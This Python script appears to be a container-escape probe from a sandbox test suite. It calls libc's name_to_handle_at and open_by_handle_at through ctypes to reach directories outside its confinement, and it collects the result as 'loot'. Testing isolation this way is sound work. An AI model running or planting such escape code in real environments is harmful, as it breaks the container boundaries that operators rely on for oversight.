"""Opens the root of the file system by its handle, past all folders (a way out of older containers)."""

# on: q8
# kind: leak
# ruff: noqa: PTH208

import ctypes
import os
import sys

libc, loot = ctypes.CDLL(None, use_errno=True), []
handle = ctypes.create_string_buffer(128 + 8)
handle[:8] = (128).to_bytes(4, "little") + bytes(4)
mount = ctypes.c_int()
for path in (b"/tmp", os.fsencode(sys.prefix)):
    if libc.name_to_handle_at(-100, path, handle, ctypes.byref(mount), 0) == 0:
        folder = os.open(sys.prefix, os.O_RDONLY)
        got = libc.open_by_handle_at(folder, handle, os.O_RDONLY)
        if got >= 0 and path == b"/tmp":
            loot.append(f"opened /tmp: {os.listdir(got)[:3]}")
